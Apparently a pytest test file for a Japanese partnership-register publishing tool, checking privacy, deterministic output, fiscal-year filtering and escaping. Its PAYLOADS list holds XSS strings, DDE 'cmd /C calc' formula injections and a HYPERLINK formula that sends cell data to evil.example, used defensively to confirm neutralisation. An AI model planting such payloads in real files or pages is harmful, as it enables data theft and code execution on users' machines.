"""Tests for publish: what reaches the website, what never does, and that the page is accessible.

Golden files live in tests/golden/publish/. After an intended change to the output, regenerate
them with ``UPDATE_GOLDEN=1 pytest tests/test_publish.py`` and review the diff before committing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import time
import types
import zipfile
from collections import Counter
from collections.abc import Mapping, Sequence
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from kouminrenkei_sheets.cli import cli
from kouminrenkei_sheets.config import Config
from kouminrenkei_sheets.errors import StoreError
from kouminrenkei_sheets.publish import (
    CP932_NAME,
    CSV_NAME,
    EXCHANGE_COLUMNS,
    EXCHANGE_CP932_NAME,
    EXCHANGE_CSV_NAME,
    EXCHANGE_JSON_NAME,
    HTML_NAME,
    JSON_NAME,
    OUTPUT_COLUMNS,
    XLSX_NAME,
    publish,
)
from kouminrenkei_sheets.schema import (
    DEPARTMENT_MASTER_SHEET,
    DEPARTMENTS,
    EXCHANGE_PROTECTABLE,
    EXCHANGE_SHEET,
    EXCHANGES,
    FIELDS,
    MUNICIPALITIES,
    PROPOSAL_SHEET,
    PROPOSALS,
    PROTECTABLE,
    REFERRAL_SHEET,
    REFERRALS,
    Answer,
    Direction,
    Method,
    Publication,
    Sheet,
    Status,
)
from kouminrenkei_sheets.store.base import CellValue, SheetRef
from kouminrenkei_sheets.store.memory import MemoryStore

GOLDEN = Path(__file__).parent / "golden" / "publish"
UPDATE_GOLDEN = os.environ.get("UPDATE_GOLDEN") == "1"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PUBLISH_DAY = date(2025, 9, 30)  # the day the golden files are made
ALL_FILES = [HTML_NAME, CSV_NAME, CP932_NAME, XLSX_NAME, JSON_NAME, EXCHANGE_CSV_NAME, EXCHANGE_CP932_NAME,
             EXCHANGE_JSON_NAME]  # fmt: skip


# ---------------------------------------------------------------- building registers
def grid(sheet: Sheet, rows: Sequence[Mapping[str, CellValue]]) -> list[list[CellValue]]:
    for row in rows:
        unknown = set(row) - set(sheet.headers)
        assert not unknown, f"not a column of {sheet.name}: {unknown}"
    return [list(sheet.headers), *([row.get(h) for h in sheet.headers] for row in rows)]


def make_store(
    proposals: Sequence[Mapping[str, CellValue]],
    referrals: Sequence[Mapping[str, CellValue]] = (),
    departments: Sequence[str] = (),
    exchanges: Sequence[Mapping[str, CellValue]] | None = None,
) -> MemoryStore:
    store = MemoryStore()
    store.put_table(SheetRef(PROPOSALS), grid(PROPOSAL_SHEET, proposals))
    if exchanges is not None:
        store.put_table(SheetRef(EXCHANGES), grid(EXCHANGE_SHEET, exchanges))
    store.put_table(SheetRef(REFERRALS), grid(REFERRAL_SHEET, referrals))
    store.put_table(
        SheetRef(DEPARTMENTS), grid(DEPARTMENT_MASTER_SHEET, [{"部局": "某部", "課": d} for d in departments])
    )
    return store


def make_config(tmp_path: Path, *, cp932: bool = False) -> Config:
    config = Config(base_dir=tmp_path)
    config.publish.cp932 = cp932
    return config


def proposal(pid: str, **values: CellValue) -> dict[str, CellValue]:
    """A proposal that would be published, with overrides."""
    row: dict[str, CellValue] = {
        "提案ID": pid,
        "受付日": date(2025, 4, 10),
        "提案方向": Direction.PARTNER_TO_PREFECTURE,
        "提案種別": "フリー型",
        "提案者区分": "企業",
        "提案者名": f"{pid}株式会社",
        "担当者": "連絡 太郎",
        "メール": "taro@example.co.jp",
        "電話": "029-301-2523",
        "件名": f"{pid}の取組",
        "概要": f"{pid}の概要",
        "連携分野": "環境",
        "連携手法": Method.NO_AGREEMENT,
        "ステータス": Status.IMPLEMENTING,
        "公表": Publication.YES,
        "公表日": date(2025, 6, 1),
    }
    row.update(values)
    return row


SMALL_DEPARTMENTS = ("長寿福祉課", "防災・危機管理課", "観光戦略課", "環境政策課")


def small_register() -> MemoryStore:
    """Seven proposals covering every rule the golden files pin."""
    proposals = [
        proposal(
            "R6-0001",
            受付日="2024/5/20 ",
            提案者名="株式会社常陸ストア",
            件名="買い物弱者の見守りと災害時の物資供給",
            概要="店舗網を生かした高齢者の見守り。\n災害時には物資を供給する。",
            連携分野="健康増進・福祉、安全・安心",
            連携手法=Method.COMPREHENSIVE,
            関係市町村="水戸市、日立市",
            ステータス=Status.AGREED,
            協定締結日="R6.10.1",
            公表日=date(2024, 10, 1),
            所在地="茨城県水戸市南町二丁目3番1号",
            代表者氏名="桜井 誠一",
        ),
        proposal(
            "R6-0002",
            受付日=date(2024, 9, 2),
            提案者名="いばらき中央銀行株式会社",
            件名="創業支援セミナーの共同開催",
            連携分野="観光・産業振興",
            連携手法=Method.PROJECT,
            ステータス=Status.IMPLEMENTING,
            アイデア保護="連携分野、所在地",
            協定締結日=date(2025, 2, 14),
            公表日=None,
        ),
        proposal(
            "R7-0001",
            提案者名="NPO法人𠮷田子育て応援団",  # 𠮷 has no cp932 code
            提案者区分="NPO・市民団体",
            件名="子ども食堂〜地域の居場所づくり",
            概要="保護すべき独自の仕組み",
            連携分野="子育て・教育",
            ステータス=Status.COMPLETED,
            アイデア保護="概要",
            公表日="令和7年5月20日",
        ),
        proposal(
            "R7-0002",
            提案方向=Direction.PREFECTURE_TO_PARTNER,
            提案者区分="県庁各課",
            提案者名="観光戦略課",
            件名="県産品を使った観光ルートの共同企画",
            概要="観光戦略課から企業等に呼びかけた取組。",
            連携分野="観光・産業振興、地域活性化",
            関係市町村="大洗町",
            公表日=date(2025, 8, 1),
        ),
        proposal("R7-0003", ステータス=Status.AGREED, 公表=Publication.PENDING, 協定締結日=date(2025, 7, 1)),
        proposal("R7-0004", ステータス=Status.COORDINATING),
        proposal("R6-0003", ステータス=Status.COMPLETED, アイデア保護="件名、ふりがな"),
    ]
    referrals: list[dict[str, CellValue]] = [
        {"照会ID": "R6-0001-01", "提案ID": "R6-0001", "照会先": "長寿福祉課", "照会日": date(2024, 5, 22),
         "回答": Answer.YES, "回答日": date(2024, 6, 10), "先方担当者": "福祉 花子"},
        {"照会ID": "R6-0001-02", "提案ID": "R6-0001", "照会先": "防災・危機管理課", "照会日": date(2024, 5, 22),
         "回答": Answer.YES, "回答日": date(2024, 6, 12)},
        {"照会ID": "R6-0001-03", "提案ID": "R6-0001", "照会先": "観光戦略課", "照会日": date(2024, 5, 22),
         "回答": Answer.NO, "回答日": date(2024, 6, 1)},
        {"照会ID": "R6-0002-01", "提案ID": "R6-0002", "照会先": " 環境政策課", "照会日": date(2024, 9, 5),
         "回答": "連携可"},
        {"照会ID": "R7-0002-01", "提案ID": "R7-0002", "照会先": "一般社団法人いばらき観光ネット",
         "照会日": date(2025, 4, 15), "回答": Answer.YES},
        {"照会ID": "R7-0002-02", "提案ID": "R7-0002", "照会先": "大洗マリンサービス株式会社",
         "照会日": date(2025, 4, 15), "回答": Answer.NO},
    ]  # fmt: skip
    return make_store(proposals, referrals, SMALL_DEPARTMENTS, SMALL_EXCHANGES)


SMALL_EXCHANGES: list[dict[str, CellValue]] = [
    {"交流ID": "R6-K01", "開催日": date(2024, 5, 10), "名称": "公民連携フォーラム2024", "形式": "フォーラム",
     "参加企業等": "株式会社常陸ストア、いばらき中央銀行株式会社", "参加課": "長寿福祉課、防災・危機管理課",
     "概要": "連携事例の紹介と\n企業等との意見交換", "公表": "可", "担当者": "交流 担当子",
     "成果": "R6-0001、R7-0003、R7-0004"},  # R7-0003 (協議中) and R7-0004 (調整中) are not named
    {"交流ID": "R7-K01", "開催日": "令和7年4月20日", "名称": "髙萩市の事業者との個別対話", "形式": "個別対話",
     "参加企業等": "𠮷田商店", "参加課": "観光戦略課", "概要": "保護すべき相談の中身", "公表": "可",
     "アイデア保護": "参加企業等、概要", "成果": "R7-0002"},
    {"交流ID": "R7-K02", "開催日": date(2025, 12, 1), "名称": "まだ開いていないフォーラム", "形式": "フォーラム",
     "公表": "可"},
    {"交流ID": "R7-K03", "開催日": date(2025, 6, 1), "名称": "公表を協議中の意見交換会", "形式": "意見交換会",
     "公表": "協議中"},
    {"交流ID": "R7-K04", "開催日": date(2025, 7, 1), "名称": "保護が読めない説明会", "形式": "説明会",
     "公表": "可", "アイデア保護": "ふりがな"},
]  # fmt: skip


def read_csv(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.reader(f))


# ---------------------------------------------------------------- golden files
@pytest.fixture
def small_result(tmp_path: Path) -> Any:
    return publish(make_config(tmp_path, cp932=True), small_register(), today=PUBLISH_DAY)


@pytest.mark.parametrize(
    "name", [HTML_NAME, CSV_NAME, CP932_NAME, JSON_NAME, EXCHANGE_CSV_NAME, EXCHANGE_CP932_NAME, EXCHANGE_JSON_NAME]
)
def test_small_register_matches_golden_files(small_result: Any, name: str) -> None:
    produced = (small_result.out_dir / name).read_bytes()
    golden = GOLDEN / name
    if UPDATE_GOLDEN:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(produced)
    assert golden.exists(), f"{golden} is missing: run UPDATE_GOLDEN=1 pytest {__file__}"
    assert produced == golden.read_bytes(), f"{name} differs from {golden} (UPDATE_GOLDEN=1 to accept)"


def test_small_register_publishes_only_the_published_rows(small_result: Any) -> None:
    assert [r.proposal_id for r in small_result.rows] == ["R6-0001", "R6-0002", "R7-0001", "R7-0002"]
    assert small_result.withheld == 1  # R7-0003 協議中
    notice, exchange_notice = small_result.notices  # R6-0003 and R7-K04: アイデア保護 names something unknown
    assert (notice.sheet, notice.column, notice.value) == (PROPOSALS, "アイデア保護", "件名、ふりがな")
    assert "公表しませんでした" in notice.message
    assert (exchange_notice.sheet, exchange_notice.row, exchange_notice.value) == (EXCHANGES, 6, "ふりがな")
    assert "この交流は公表しませんでした" in exchange_notice.message
    rows = {r.proposal_id: r for r in small_result.rows}
    assert rows["R6-0001"].departments == ("長寿福祉課", "防災・危機管理課")  # 連携可 only, not 観光戦略課
    assert rows["R6-0001"].date == date(2024, 10, 1) and rows["R6-0001"].date_kind == "協定締結日"
    assert rows["R6-0002"].fields is None and rows["R6-0002"].departments == ("環境政策課",)
    assert rows["R7-0001"].outline is None and rows["R7-0001"].date_kind == "公表日"
    # 県→企業等: the partner is who answered 連携可, the proposing department is responsible.
    assert rows["R7-0002"].partners == ("一般社団法人いばらき観光ネット",)
    assert rows["R7-0002"].departments == ("観光戦略課",)


def test_cp932_copy_keeps_every_row_and_lists_each_substituted_character(small_result: Any) -> None:
    replaced = {(r.file, r.row_id): dict(r.characters) for r in small_result.cp932_replaced}
    # R7-K01's 𠮷田商店 is protected, so 「非公表」 and nothing to replace; its 髙 is in cp932.
    assert replaced == {(CP932_NAME, "R7-0001"): {"連携先名称": "𠮷"}}
    assert "髙萩市の事業者との個別対話" in (small_result.out_dir / EXCHANGE_CP932_NAME).read_bytes().decode("cp932")
    message = small_result.cp932_replaced[0].message
    assert "R7-0001" in message and CP932_NAME in message and "〓" in message
    sjis = read_csv(small_result.out_dir / CP932_NAME, encoding="cp932")
    utf8 = read_csv(small_result.out_dir / CSV_NAME)
    assert [r[1] for r in sjis[1:]] == [r[1] for r in utf8[1:]] == ["R6-0001", "R6-0002", "R7-0001", "R7-0002"]
    # Only the character cp932 lacks differs; everything else is the same, character for character.
    # (cp932 reads 〜 back as ～, its own wave dash: that is the encoding, not a change of ours.)
    assert sjis[1:] == [[c.replace("𠮷", "〓").encode("cp932").decode("cp932") for c in r] for r in utf8[1:]]
    assert "NPO法人〓田子育て応援団" in sjis[3]


def test_cp932_keeps_the_characters_it_has_and_the_page_counts_every_row(tmp_path: Path) -> None:
    rows = [
        proposal("R7-0001", 提案者名="髙橋工業株式会社", 件名="𠮷と髙の取組", 公表日=date(2025, 5, 1)),
        proposal("R7-0002", 提案者名="山﨑商事", 公表日=date(2025, 5, 2)),
    ]
    result = publish(make_config(tmp_path, cp932=True), make_store(rows), today=PUBLISH_DAY)
    [replacement] = result.cp932_replaced
    assert (replacement.row_id, dict(replacement.characters)) == ("R7-0001", {"名称": "𠮷"})
    raw = (result.out_dir / CP932_NAME).read_bytes()
    text = raw.decode("cp932")
    assert "髙橋工業株式会社" in text and "山﨑商事" in text and "〓と髙の取組" in text
    assert "髙".encode("cp932") in raw
    assert len(read_csv(result.out_dir / CP932_NAME, encoding="cp932")) == 3
    html = (result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    assert "掲載件数は2件です。" in html and CP932_NAME in html


def test_stale_cp932_copy_is_removed_when_the_setting_is_off(tmp_path: Path) -> None:
    store = small_register()
    publish(make_config(tmp_path, cp932=True), store)
    result = publish(make_config(tmp_path, cp932=False), store)
    assert not (result.out_dir / CP932_NAME).exists()
    assert result.removed == [result.out_dir / CP932_NAME, result.out_dir / EXCHANGE_CP932_NAME]
    assert CP932_NAME not in (result.out_dir / HTML_NAME).read_text(encoding="utf-8")


def test_xlsx_holds_the_same_rows_as_the_csv(small_result: Any) -> None:
    rows = read_csv(small_result.out_dir / CSV_NAME)
    wb = openpyxl.load_workbook(small_result.out_dir / XLSX_NAME)
    assert wb.sheetnames == ["連携一覧", "交流一覧"]
    for ws, csv_name in ((wb["連携一覧"], CSV_NAME), (wb["交流一覧"], EXCHANGE_CSV_NAME)):
        values = [["" if v is None else v for v in row] for row in ws.iter_rows(values_only=True)]
        as_text = [[v.date().isoformat() if hasattr(v, "date") else str(v) for v in row] for row in values]
        assert as_text == read_csv(small_result.out_dir / csv_name)
        # Printable: landscape, one page wide, the header row on every page.
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_title_rows == "$1:$1"
    assert rows[1][8] == "2024-10-01" and wb["連携一覧"]["I2"].is_date
    assert wb.properties.modified is not None and wb.properties.modified.year == 2000


def test_csv_has_bom_crlf_iso_dates_and_open_data_headers(small_result: Any) -> None:
    raw = (small_result.out_dir / CSV_NAME).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") >= 5 and b"\r\n" in raw.split(b"\n")[0] + b"\n"
    rows = read_csv(small_result.out_dir / CSV_NAME)
    assert tuple(rows[0]) == OUTPUT_COLUMNS
    date_column = rows[0].index("日付")
    assert [r[date_column] for r in rows[1:]] == ["2024-10-01", "2025-02-14", "2025-05-20", "2025-08-01"]
    for r in rows[1:]:
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", r[date_column])
    assert not (small_result.out_dir / CP932_NAME).read_bytes().startswith(b"\xef\xbb\xbf")


def test_html_shows_full_wareki_dates(small_result: Any) -> None:
    html = (small_result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    assert '<time datetime="2024-10-01">令和6年10月1日</time>' in html
    assert "令和7年5月20日" in html
    assert "R6.10.1" not in html  # as typed in the register, never the short form


# ---------------------------------------------------------------- determinism and atomic writes
def test_publishing_twice_gives_identical_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = small_register()
    first = publish(make_config(tmp_path, cp932=True), store, out=tmp_path / "a", today=PUBLISH_DAY)
    # A different clock for the second run: anything that stamps the time would differ.
    later = time.time() + 400 * 86400
    monkeypatch.setattr(zipfile, "time", types.SimpleNamespace(time=lambda: later, localtime=time.localtime))
    second = publish(make_config(tmp_path, cp932=True), store, out=tmp_path / "b", today=PUBLISH_DAY)
    names = sorted(p.name for p in first.files)
    assert names == sorted(p.name for p in second.files)
    assert names == sorted(ALL_FILES)
    for name in names:
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


def test_row_order_in_the_sheet_does_not_change_the_output(tmp_path: Path) -> None:
    rows = [proposal(f"R7-{n:04d}", 公表日=date(2025, 5, n)) for n in range(1, 6)]
    a = publish(make_config(tmp_path), make_store(rows), out=tmp_path / "a", today=PUBLISH_DAY)
    b = publish(make_config(tmp_path), make_store(list(reversed(rows))), out=tmp_path / "b", today=PUBLISH_DAY)
    for name in (HTML_NAME, CSV_NAME, XLSX_NAME, JSON_NAME):
        assert (a.out_dir / name).read_bytes() == (b.out_dir / name).read_bytes(), name


def test_no_temporary_files_are_left_behind(small_result: Any) -> None:
    assert sorted(p.name for p in small_result.out_dir.iterdir()) == sorted(ALL_FILES)


# ---------------------------------------------------------------- fiscal-year filter
def test_fiscal_year_filter_keeps_one_year_in_its_own_folder(tmp_path: Path) -> None:
    store = small_register()
    result = publish(make_config(tmp_path), store, fiscal_year=2024)
    assert result.out_dir == tmp_path / "publish" / "R6"
    assert [r.proposal_id for r in result.rows] == ["R6-0001", "R6-0002"]
    assert [(c.label, c.count) for c in result.by_year] == [("令和6年度", 2)]
    rows = read_csv(result.out_dir / CSV_NAME)
    assert {r[3] for r in rows[1:]} == {"令和6年度"}
    html = (result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    assert "<h1>公民連携の取組一覧（令和6年度）</h1>" in html
    assert "令和7年度" not in html
    data = json.loads((result.out_dir / JSON_NAME).read_text(encoding="utf-8"))
    assert data["fiscal_year"] == 2024 and data["count"] == 2
    assert {r["年度"] for r in data["rows"]} == {"令和6年度"}
    assert not (tmp_path / "publish" / HTML_NAME).exists()  # the all-years page is untouched


def test_the_date_decides_the_fiscal_year(tmp_path: Path) -> None:
    # Received in FY2024, signed in FY2025: published under 令和7年度.
    store = make_store(
        [proposal("R6-0009", 受付日=date(2025, 3, 1), 連携手法=Method.PROJECT, 協定締結日=date(2025, 4, 1))]
    )
    result = publish(make_config(tmp_path), store, fiscal_year=2025)
    assert [r.proposal_id for r in result.rows] == ["R6-0009"]


def test_fiscal_year_option_on_the_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = small_register()
    config_path = tmp_path / "kouminrenkei.toml"
    config_path.write_text('[store]\nbackend = "memory"\n', encoding="utf-8")
    monkeypatch.setattr("kouminrenkei_sheets.store.factory.open_store", lambda config: store)
    result = CliRunner().invoke(cli, ["--config", str(config_path), "publish", "--fiscal-year", "令和6年度"])
    assert result.exit_code == 0, result.output
    assert f"公表資料を作成しました: {tmp_path / 'publish' / 'R6'}（2 件）" in result.output
    assert "公表が「可」でないため載せなかった提案: 1 件" in result.output
    bad = CliRunner().invoke(cli, ["--config", str(config_path), "publish", "--fiscal-year", "来年"])
    assert bad.exit_code == 2
    assert "年度として読めません" in bad.output


def test_command_reports_the_rows_it_kept_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = small_register()
    config_path = tmp_path / "kouminrenkei.toml"
    config_path.write_text('[store]\nbackend = "memory"\n[publish]\ncp932 = true\n', encoding="utf-8")
    monkeypatch.setattr("kouminrenkei_sheets.store.factory.open_store", lambda config: store)
    result = CliRunner().invoke(cli, ["--config", str(config_path), "publish"])
    assert result.exit_code == 0, result.output
    assert "公表資料を作成しました" in result.output and "（4 件）" in result.output
    assert "注意: 提案 8行目「アイデア保護」" in result.output
    assert (
        "R7-0001: 連携先名称の「𠮷」を Shift_JIS（cp932）で表せないため、renkei_cp932.csv では「〓」に" in result.output
    )


# ---------------------------------------------------------------- nothing leaked
def _texts_of(out_dir: Path) -> dict[str, str]:
    """Every output as text: files decoded, the xlsx both as raw XML and as cell values."""
    texts: dict[str, str] = {}
    for path in sorted(out_dir.iterdir()):
        data = path.read_bytes()
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                for name in z.namelist():
                    texts[f"{path.name}:{name}"] = z.read(name).decode("utf-8")
            wb = openpyxl.load_workbook(path)
            texts[f"{path.name}:cells"] = "\n".join(
                str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row
            )
        elif path.name in (CP932_NAME, EXCHANGE_CP932_NAME):
            texts[path.name] = data.decode("cp932")
        else:
            texts[path.name] = data.decode("utf-8-sig")
    return texts


def test_no_personal_or_protected_value_reaches_any_output(tmp_path: Path) -> None:
    """Unique markers in every personal and protected field of a few hundred generated rows."""
    rng = random.Random(20250401)
    secret: list[str] = []  # must never appear
    public: list[str] = []  # must appear (proves the test looks at real output)
    personal = [c.name for c in PROPOSAL_SHEET.columns if c.personal]
    unpublished = ["法人番号", "所在地", "備考", "代表者氏名", "代表者役職"]  # never part of the publication
    departments = [f"課{n:02d}" for n in range(12)]
    field_counts: Counter[str] = Counter()
    proposals: list[dict[str, CellValue]] = []
    referrals: list[dict[str, CellValue]] = []

    def marker(i: int, tag: str) -> str:
        return f"QX{i:04d}{tag}XQ"

    for i in range(1, 301):
        pid = f"R7-{i:04d}"
        published = rng.random() < 0.7
        protected = sorted(c for c in PROTECTABLE if rng.random() < 0.3)
        fields = rng.sample(FIELDS, k=rng.randint(1, 3))
        row = proposal(
            pid,
            ステータス=rng.choice(Status.PUBLISHED) if published else rng.choice(Status.ALL[:4] + Status.ENDS),
            公表=Publication.YES if published or rng.random() < 0.5 else rng.choice(Publication.ALL),
            アイデア保護="、".join(protected) or None,
            提案者名=f"株式会社{marker(i, 'PARTNER')}",
        )
        for n, column in enumerate(personal):
            value = marker(i, f"PERS{n}")
            row[column] = f"{value.lower()}@example.jp" if column == "メール" else value
            secret.append(value.lower() if column == "メール" else value)
        for column in unpublished:
            row[column] = marker(i, f"UNPUB{unpublished.index(column)}")
            secret.append(marker(i, f"UNPUB{unpublished.index(column)}"))
        for column in ("件名", "概要", "関係市町村"):
            tag = f"{'SECRET' if column in protected else 'PUBLIC'}{column}"
            row[column] = (
                f"{rng.choice(MUNICIPALITIES)}、{marker(i, tag)}" if column == "関係市町村" else marker(i, tag)
            )
            (secret if column in protected or not published else public).append(marker(i, tag))
        # 連携分野: real fields plus a marker item that would show up as a chart label if it leaked.
        row["連携分野"] = "、".join([*fields, marker(i, "FIELD")])
        if "連携分野" in protected or not published:
            secret.append(marker(i, "FIELD"))
        elif published:
            field_counts.update(fields)
        proposals.append(row)
        for k in range(rng.randint(0, 3)):
            referrals.append(
                {
                    "照会ID": f"{pid}-{k + 1:02d}",
                    "提案ID": pid,
                    "照会先": rng.choice(departments),
                    "照会日": date(2025, 4, 20),
                    "回答": rng.choice(Answer.ALL),
                    "回答理由・コメント": marker(i, f"REASON{k}"),
                    "先方担当者": marker(i, f"CONTACT{k}"),
                }
            )
            secret += [marker(i, f"REASON{k}"), marker(i, f"CONTACT{k}")]
    # 交流: the personal 担当者 and 備考 never appear; protected fields, unpublished or future meetings neither.
    exchanges: list[dict[str, CellValue]] = []
    published_ids = {
        str(r["提案ID"]) for r in proposals if r["公表"] == Publication.YES and r["ステータス"] in Status.PUBLISHED
    }
    for i in range(1, 81):
        shown = rng.random() < 0.7
        held = date(2025, 4, 1) if rng.random() < 0.85 else date(2026, 2, 1)  # after the publication day
        protected = sorted(c for c in EXCHANGE_PROTECTABLE if rng.random() < 0.3)
        visible = shown and held <= PUBLISH_DAY
        row = {
            "交流ID": f"R7-K{i:02d}", "開催日": held, "名称": marker(i, "XNAME"), "形式": "意見交換会",
            "公表": Publication.YES if shown else rng.choice([Publication.NO, Publication.PENDING, None]),
            "アイデア保護": "、".join(protected) or None, "担当者": marker(i, "XPERS"), "備考": marker(i, "XNOTE"),
            "参加課": rng.choice(departments),
            "成果": "、".join(rng.sample([str(r["提案ID"]) for r in proposals], k=3)),
        }  # fmt: skip
        secret += [marker(i, "XPERS"), marker(i, "XNOTE")]
        (public if visible else secret).append(marker(i, "XNAME"))
        for column in ("参加企業等", "概要"):
            row[column] = marker(i, f"X{column}")
            (public if visible and column not in protected else secret).append(marker(i, f"X{column}"))
        exchanges.append(row)
    store = make_store(proposals, referrals, departments, exchanges)
    result = publish(make_config(tmp_path, cp932=True), store, today=PUBLISH_DAY)
    assert 150 < len(result.rows) < 300
    assert 20 < len(result.exchanges) < 80
    named = {pid for x in result.exchanges for pid in (x.results and [r.proposal_id for r in x.results]) or []}
    assert named and named <= published_ids
    kouryu = json.loads((result.out_dir / EXCHANGE_JSON_NAME).read_text(encoding="utf-8"))
    assert {pid for r in kouryu["rows"] if r["成果"] != "非公表" for pid in r["成果"]} == named

    texts = _texts_of(result.out_dir)
    assert {name.split(":")[0] for name in texts} == set(ALL_FILES)
    everything = "\n".join(texts.values())
    leaked = [m for m in secret if m in everything]
    assert leaked == [], f"{len(leaked)} secret values leaked, e.g. {leaked[:5]}"
    for name in (HTML_NAME, f"{XLSX_NAME}:cells"):
        missing = [m for m in public if m not in texts[name]]
        assert missing == [], f"{name} lacks published values, e.g. {missing[:3]}"
    for name in (CSV_NAME, CP932_NAME, JSON_NAME, EXCHANGE_CSV_NAME, EXCHANGE_CP932_NAME, EXCHANGE_JSON_NAME):
        exchange_file = name.startswith("kouryu")
        # markers of 交流 have tags starting with X: they belong in kouryu.*, the others in renkei.*
        missing = [m for m in public if (m[6] == "X") == exchange_file and m not in texts[name]]
        assert missing == [], f"{name} lacks published values, e.g. {missing[:3]}"
    # A protected 連携分野 is not counted either.
    counts = {c.label: c.count for c in result.by_field}
    assert {f: counts.get(f, 0) for f in FIELDS} == {f: field_counts[f] for f in FIELDS}
    data = json.loads(texts[JSON_NAME])
    assert {c["label"]: c["count"] for c in data["counts"]["連携分野"] if c["label"] in FIELDS} == {
        f: n for f, n in field_counts.items() if n
    }


# ---------------------------------------------------------------- escaping and formulas
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</td></tr></table><iframe src=javascript:alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{{ 7*7 }}{% raw %}",
    "&amp; &lt;b&gt;",
)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "a", "header", "p", "h1", "h2", "h3", "main", "nav",
    "ul", "li", "section", "div", "table", "caption", "thead", "tbody", "tr", "th", "td", "span", "time",
    "footer", "address",
}  # fmt: skip


def test_payloads_in_every_text_field_are_escaped_and_neutralised(tmp_path: Path) -> None:
    departments = [f"課{n}" for n in range(len(PAYLOADS))]
    rows: list[dict[str, CellValue]] = []
    referrals: list[dict[str, CellValue]] = []
    for n, payload in enumerate(PAYLOADS, start=1):
        pid = f"R7-{n:04d}"
        text_fields = ("提案者名", "件名", "概要", "連携分野", "連携手法", "関係市町村")
        rows.append(proposal(pid, **dict.fromkeys(text_fields, payload)))
        # A department whose very name is the payload, answering 連携可.
        departments[n - 1] = payload
        referrals.append({"照会ID": f"{pid}-01", "提案ID": pid, "照会先": payload, "照会日": date(2025, 4, 1),
                          "回答": Answer.YES})  # fmt: skip
    config = make_config(tmp_path)
    config.publish.title = "<b>公民連携</b>の一覧"
    config.desk.name = "<script>desk</script>"
    result = publish(config, make_store(rows, referrals, departments))
    assert len(result.rows) == len(PAYLOADS)

    html = (result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    parser = _Collector()
    parser.feed(html)
    parser.close()
    assert {tag for tag, _ in parser.tags} <= ALLOWED_TAGS
    assert [tag for tag, _ in parser.tags].count("style") == 1
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in (value or ""), (tag, name, value)
    for payload in PAYLOADS:
        if "<" in payload or ">" in payload:
            assert payload not in html, payload
    text = "".join(parser.text)
    assert "{{ 7*7 }}{% raw %}" in text  # shown literally, never run as a template
    assert "<script>alert(1)</script>" in text  # the text is there, as text
    assert "&amp; &lt;b&gt;" in text  # entities typed by a person are shown as typed
    assert "<b>公民連携</b>の一覧" in text and "<script>desk</script>" in text

    rows_csv = read_csv(result.out_dir / CSV_NAME)
    for row in rows_csv[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    titles = [r[rows_csv[0].index("名称")] for r in rows_csv[1:]]
    assert "'" + PAYLOADS[4] in titles
    assert "'=1+1" in titles  # the tab / CR were trimmed, and what remains still cannot run

    wb = openpyxl.load_workbook(result.out_dir / XLSX_NAME)
    ws = wb.active
    assert ws is not None
    stored = []
    for line in ws.iter_rows(min_row=2):
        for cell in line:
            assert cell.data_type != "f", cell.value
            stored.append(cell.value)
    # Text cells are text, never formulas: the xlsx holds the value as typed, without the CSV's apostrophe.
    assert PAYLOADS[4] in stored and not any(isinstance(v, str) and v.startswith("'=") for v in stored)

    data = json.loads((result.out_dir / JSON_NAME).read_text(encoding="utf-8"))
    assert {r["名称"] for r in data["rows"]} >= {PAYLOADS[0], PAYLOADS[4]}  # JSON keeps the data as is


# ---------------------------------------------------------------- accessibility structure
class Node:
    def __init__(self, tag: str, attrs: dict[str, str | None], parent: Node | None) -> None:
        self.tag, self.attrs, self.parent = tag, attrs, parent
        self.children: list[Node | str] = []

    def elements(self) -> list[Node]:
        return [c for c in self.children if isinstance(c, Node)]

    def walk(self) -> list[Node]:
        out: list[Node] = [self]
        for c in self.elements():
            out += c.walk()
        return out

    def find_all(self, tag: str) -> list[Node]:
        return [n for n in self.walk() if n.tag == tag]

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def has_class(self, name: str) -> bool:
        return name in (self.attrs.get("class") or "").split()


VOID_TAGS = frozenset({"meta", "link", "br", "img", "input", "hr"})


class TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {}, None)
        self.current = self.root
        self.errors: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
